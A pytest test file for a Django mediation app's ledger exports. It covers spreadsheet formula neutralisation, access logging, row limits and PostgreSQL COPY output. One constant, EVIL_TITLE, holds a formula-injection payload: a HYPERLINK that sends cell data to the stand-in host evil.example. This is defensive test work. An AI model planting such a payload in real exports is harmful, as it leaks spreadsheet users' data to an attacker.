"""The ledger is safe to open and accounted for (issue 12), and a large one is a job (issue 13):
formulas neutralised in CSV and XLSX, an access-log row for every ledger with full numbers, a CSV
over LEDGER_DIRECT_MAX_ROWS refused with the job offered, and the job's CSV (one COPY on
PostgreSQL) equal to the one the web writes."""

import csv
import io

import pytest
from django.core.management import call_command
from django.db import connection
from openpyxl import load_workbook

from accounts.models import User
from disputes import exports
from disputes.models import Agreement, Case, LedgerExport, MediationSession, PersonalDataView
from disputes.services import ledger_exports
from tests.factories import make_case, make_user

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def evil(areas, sam):
    """A case whose title, mediator and applicant all start like a formula."""
    mediator = make_user("evil", role=User.Role.MEDIATOR, areas=[areas["C1"]], full_name="@SUM(1+1)")
    applicant = make_user("minus", full_name="-2+3", phone="13600000001")
    return make_case(
        applicant=applicant,
        area=areas["G1"],
        title=EVIL_TITLE,
        status=Case.Status.ASSIGNED,
        actor=sam,
        mediator=mediator,
    )


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _job(client, capture, **params) -> LedgerExport:
    with capture(execute=True):
        response = client.post("/dashboard/exports/", {"period": "month", **params})
    assert response.status_code == 302
    return LedgerExport.objects.latest("pk")


class FormulaTests:
    def test_formula_safe_quotes_every_formula_start(self):
        for value in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
            assert exports.formula_safe(value) == "'" + value
        for value in ("LL-2026-000001", "王伟", "", "1-2", "a=b"):
            assert exports.formula_safe(value) == value

    def test_the_csv_quotes_cells_that_start_like_a_formula(self, evil, sam, client):
        client.force_login(sam)
        row = {r[0]: r for r in _csv(client.get("/dashboard/ledger.csv", {"period": "month"}))[1:]}[evil.number]
        assert row[6].startswith("'" + EVIL_TITLE)
        assert row[9] == "'@SUM(1+1)"
        assert row[0] == evil.number  # nothing else changes

    def test_the_xlsx_stores_them_as_text_not_formulas(self, evil, sam, client, django_capture_on_commit_callbacks):
        client.force_login(sam)
        export = _job(client, django_capture_on_commit_callbacks)
        response = client.get(f"/dashboard/exports/{export.pk}/download/")
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == evil.number)
        assert row[6].data_type == "s" and row[6].value.startswith(EVIL_TITLE)
        assert row[9].data_type == "s" and row[9].value == "@SUM(1+1)"
        assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


class AccessLogTests:
    def test_an_administrators_csv_writes_who_which_scope_and_how_many_rows(self, cases, areas, client):
        ada = make_user("ada", role=User.Role.ADMINISTRATOR, areas=[areas["D"]])
        client.force_login(ada)
        rows = _csv(client.get("/dashboard/ledger.csv", {"period": "month", "status": "assigned"}))
        log = PersonalDataView.objects.get()
        assert (log.user, log.case, log.rows) == (ada, None, len(rows) - 1) and log.rows == 1
        assert "District" in log.scope and "status=assigned" in log.scope
        assert log.where == "ledger CSV download"

    def test_an_administrators_job_writes_one_row_when_it_is_done(
        self, cases, areas, client, django_capture_on_commit_callbacks
    ):
        ada = make_user("ada", role=User.Role.ADMINISTRATOR, areas=[areas["D"]])
        client.force_login(ada)
        for fmt in ("xlsx", "csv"):
            export = _job(client, django_capture_on_commit_callbacks, format=fmt)
            log = PersonalDataView.objects.latest("pk")
            assert (log.user, log.rows, log.where) == (ada, 2, f"ledger {fmt.upper()} export {export.pk}")
        assert PersonalDataView.objects.count() == 2

    def test_a_masked_ledger_writes_none(self, cases, sam, client, django_capture_on_commit_callbacks):
        client.force_login(sam)
        _csv(client.get("/dashboard/ledger.csv", {"period": "month"}))
        _job(client, django_capture_on_commit_callbacks)
        assert not PersonalDataView.objects.exists()


class LargeLedgerTests:
    def test_a_csv_over_the_limit_is_refused_with_the_job_offered(self, cases, sam, client, settings):
        settings.LEDGER_DIRECT_MAX_ROWS = 1
        client.force_login(sam)
        response = client.get("/dashboard/ledger.csv", {"period": "month", "status": ""})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/html")
        assert "Content-Disposition" not in response
        html = response.content.decode()
        assert 'id="ledger-too-large"' in html and 'action="/dashboard/exports/"' in html
        assert 'name="format" value="csv"' in html and 'name="period" value="month"' in html
        settings.LEDGER_DIRECT_MAX_ROWS = 2
        assert client.get("/dashboard/ledger.csv", {"period": "month"})["Content-Type"].startswith("text/csv")

    def test_the_csv_job_writes_the_same_rows_as_the_download(
        self, cases, evil, areas, client, django_capture_on_commit_callbacks
    ):
        ada = make_user("ada", role=User.Role.ADMINISTRATOR, areas=[areas["D"]])
        for user in (ada, User.objects.get(username="sam")):
            client.force_login(user)
            direct = _csv(client.get("/dashboard/ledger.csv", {"period": "month"}))
            export = _job(client, django_capture_on_commit_callbacks, format="csv")
            export.refresh_from_db()
            assert export.state == LedgerExport.State.DONE and export.rows_done == 3
            assert export.file.name.endswith(".csv")
            download = client.get(f"/dashboard/exports/{export.pk}/download/")
            assert download["Content-Type"] == "text/csv"
            assert download["Content-Disposition"].endswith('.csv"')
            assert _csv(download) == direct

    @pytest.mark.skipif(connection.vendor != "postgresql", reason="the COPY path is PostgreSQL's")
    def test_on_postgresql_one_copy_writes_what_the_python_rows_write(self, evil):
        call_command("seed_bulk", cases=300, stdout=io.StringIO())  # follow-ups, many statuses
        case = Case.objects.filter(status=Case.Status.CLOSED).order_by("pk").first()
        Agreement.objects.create(case=case, kind=Agreement.Kind.ORAL, effective_at=case.resolved_at)
        MediationSession.objects.create(case=case, attendees="A, B", content="Talked.")
        MediationSession.objects.create(case=case, attendees="A, B", content="Agreed.")
        cases = Case.objects.all()
        for user in (User.objects.get(username="sam"), make_user("ada", role=User.Role.ADMINISTRATOR)):
            out = io.BytesIO()
            assert exports.ledger_csv_write(cases, out, user=user) == cases.count()
            python = "".join(exports.ledger_csv(cases, user=user))
            copied = out.getvalue().decode()
            assert list(csv.reader(io.StringIO(copied))) == list(csv.reader(io.StringIO(python)))

    def test_the_scope_label_names_area_period_and_filters(self, sam, areas):
        from disputes.dashboard import period_from

        period = period_from("custom", start=None, end=None)
        label = ledger_exports.ledger_scope_label(sam, period=period, area=areas["C1"].pk, category="3")
        assert label.startswith("Community 1; ") and label.endswith("; category=3")
